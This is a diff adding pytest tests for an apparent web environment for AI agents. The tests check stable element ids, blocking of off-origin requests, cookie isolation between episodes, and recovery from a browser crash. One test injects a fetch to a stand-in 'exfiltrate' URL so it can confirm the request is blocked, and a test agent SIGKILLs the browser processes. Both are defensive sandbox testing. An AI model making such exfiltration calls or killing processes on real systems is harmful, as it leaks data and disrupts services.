@@ -1,0 +1,121 @@
+"""The browser layer in a real Chromium: stable ids, blocked off-origin requests, isolated contexts, crashes."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import signal
+
+import pytest
+
+import envgym
+from envgym.agent import Agent
+from envgym.agents.baseline import OracleAgent
+from envgym.rollout import run_episode
+from envgym.types import Action, Observation, Outcome
+from envgym_web.browser import BrowserCrashed
+from envgym_web.observe import WebObservation
+
+pytestmark = pytest.mark.browser
+
+
+def ids(obs: WebObservation) -> dict[str, str]:
+    """Element id -> its line (without the id)."""
+    out = {}
+    for line in obs.text.splitlines():
+        if line.startswith("["):
+            key, _, rest = line[1:].partition("] ")
+            out[key] = rest
+    return out
+
+
+async def test_element_ids_are_stable_across_observations(shop_task) -> None:
+    async with envgym.make("web/shop-v1") as env:
+        first, _ = await env.reset(task=shop_task)
+        again = await env.step(Action.call("scroll", dx=0, dy=10))
+        assert ids(again.observation) == ids(first)
+        page = env.unwrapped.episode.page
+        await page.evaluate("""() => { const p = document.createElement('p'); p.textContent = 'inserted';
+                                       document.querySelector('main').prepend(p); }""")
+        typed = await env.step(Action.call("fill", element_id="search-input", value="mug"))
+        after = ids(typed.observation)
+        assert {k: v for k, v in after.items() if k in ids(first) and k != "search-input"} == \
+            {k: v for k, v in ids(first).items() if k != "search-input"}
+        new = [k for k in after if k not in ids(first)]
+        assert len(new) == 1 and after[new[0]] == 'p "inserted"'
+        assert 'value="mug"' in after["search-input"]
+        reloaded, _ = await env.reset(task=shop_task)  # the same page content gets the same ids again
+        assert ids(reloaded) == ids(first)
+
+
+async def test_off_origin_requests_are_blocked_by_the_route(shop_task) -> None:
+    async with envgym.make("web/shop-v1") as env:
+        await env.reset(task=shop_task)
+        episode = env.unwrapped.episode
+        outcome = await episode.page.evaluate("""async () => {
+            const img = document.createElement('img'); img.src = 'http://192.0.2.1/pixel.png';
+            document.body.append(img);
+            try { await fetch('http://198.51.100.7/exfiltrate'); return 'reached'; } catch (e) { return 'failed'; }
+        }""")
+        assert outcome == "failed"
+        with pytest.raises(Exception, match="ERR_BLOCKED_BY_CLIENT"):
+            await episode.page.goto("http://203.0.113.9/")
+        step = await env.step(Action.call("goto", url="https://example.com/"))
+        assert "limited to this site" in step.observation.last_action_error
+        for _ in range(50):
+            if "http://192.0.2.1/pixel.png" in episode.blocked:
+                break
+            await asyncio.sleep(0.05)
+        assert {"http://192.0.2.1/pixel.png", "http://198.51.100.7/exfiltrate", "http://203.0.113.9/"} <= \
+            set(episode.blocked)
+
+
+async def test_concurrent_episodes_do_not_share_cookies_or_state(forum_tasks) -> None:
+    reply_task, pin_task = forum_tasks  # signed in as different users, on servers sharing the host 127.0.0.1
+    async with envgym.make("web/forum-v1") as a, envgym.make("web/forum-v1") as b:
+        (obs_a, _), (obs_b, _) = await asyncio.gather(a.reset(task=reply_task), b.reset(task=pin_task))
+        user_a = reply_task.initial_state["sign_in"]
+        assert f"/u/{user_a}" in obs_a.text and "/u/bob" in obs_b.text and f"/u/{user_a}" not in obs_b.text
+        cookies_a = await a.unwrapped.episode.context.cookies()
+        cookies_b = await b.unwrapped.episode.context.cookies()
+        assert {c["value"] for c in cookies_a}.isdisjoint({c["value"] for c in cookies_b})
+        out = await a.step(Action.call("click", element_id="nav-logout"))
+        assert "Sign in to EnvForum" in out.observation.text
+        still = await b.step(Action.call("goto", url="/"))
+        assert "/u/bob" in still.observation.text
+        await a.step(Action.call("goto", url="/new"))  # a's app state is its own: b's database is untouched
+        assert a.unwrapped.session is not b.unwrapped.session
+
+
+class KillsTheBrowser(Agent):
+    name = "killer"
+
+    async def act(self, observation: Observation) -> Action:
+        for pid in envgym_web_browser().pids():
+            os.kill(pid, signal.SIGKILL)
+        await asyncio.sleep(0.5)
+        return Action.call("click", element_id="nav-cart")
+
+
+def envgym_web_browser():
+    from envgym_web.browser import shared_browser
+
+    return shared_browser()
+
+
+async def test_a_killed_browser_is_an_infra_error_and_is_relaunched(shop_task) -> None:
+    async with envgym.make("web/shop-v1") as env:
+        crashed = await run_episode(env, KillsTheBrowser(), shop_task, seed=0)
+        assert crashed.outcome is Outcome.INFRA_ERROR and crashed.error_type == BrowserCrashed.__name__
+        recovered = await run_episode(env, OracleAgent(shop_task), shop_task, seed=0)
+        assert recovered.outcome is Outcome.SUCCESS and recovered.reward == 1.0
+
+
+async def test_screenshot_only_when_asked(shop_task) -> None:
+    async with envgym.make("web/shop-v1") as env:
+        plain, _ = await env.reset(task=shop_task)
+        assert plain.screenshot is None
+        shot, _ = await env.reset(task=shop_task, options={"screenshot": True})
+        pixels = shot.screenshot.array()
+        assert pixels.shape == (384, 512, 3) and pixels.dtype.name == "uint8" and pixels.std() > 0
+        assert len(shot.screenshot.jpeg_base64) < 100_000
